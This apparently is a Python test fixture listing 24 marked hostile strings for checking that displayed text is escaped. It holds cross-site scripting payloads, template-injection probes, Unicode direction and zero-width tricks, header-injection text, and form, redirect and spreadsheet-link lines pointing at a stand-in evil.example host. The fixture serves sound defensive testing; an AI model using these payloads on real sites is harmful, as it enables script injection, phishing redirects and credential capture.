"""Texts that attack whoever shows them. Every one carries a mark, so that a test sees that it was shown."""

from __future__ import annotations

MARK = "hostile"
ALARM = "window.__alarm=1"
HOSTILE: tuple[str, ...] = (
    f"{MARK}01 <script>{ALARM}</script>",
    f"{MARK}02 <img src=x onerror={ALARM}>",
    f'{MARK}03 "><svg onload={ALARM}>',
    f"{MARK}04 '-{ALARM}-'",
    f"{MARK}05 </title><script>{ALARM}</script>",
    f"{MARK}06 </textarea></script><script>{ALARM}</script>",
    f'{MARK}07 <a href="javascript:{ALARM}">click</a>',
    f"{MARK}08 [click](javascript:{ALARM})",
    f"{MARK}09 ![x](https://evil.example/pixel.png)",
    f"{MARK}10 {{{{ config }}}} {{% raw %}} ${{7*7}} #{{7*7}}",
    f"{MARK}11 <iframe srcdoc='<script>parent.{ALARM}</script>'>",
    f"{MARK}12 <style>*{{display:none}}</style>",
    f"{MARK}13 \u202egnp.exe\u202c \u2066rtl\u2069 שלום مرحبا",
    f"{MARK}14 z\u200be\u200cr\u200do\ufeff w\u2060idth",
    f"{MARK}15 Z" + "\u0351\u0320\u0343" * 80 + "algo",
    f"{MARK}16 " + "W" * 5_000,
    f"{MARK}17 " + "<b>" * 400 + "deep",
    f'{MARK}18 <math><mi//xlink:href="data:x,<script>{ALARM}</script>">',
    f"{MARK}19 <form action=https://evil.example><input name=password autofocus onfocus={ALARM}>",
    f"{MARK}20 \x1b[31mred\x07 \r\n\r\nHTTP/1.1 200 OK",
    f"{MARK}21 <meta http-equiv=refresh content='0;url=https://evil.example'>",
    f"{MARK}22 &lt;script&gt;{ALARM}&lt;/script&gt;",
    f'{MARK}23 =HYPERLINK("https://evil.example","click")',
    f"{MARK}24 <base href=https://evil.example/>",
)
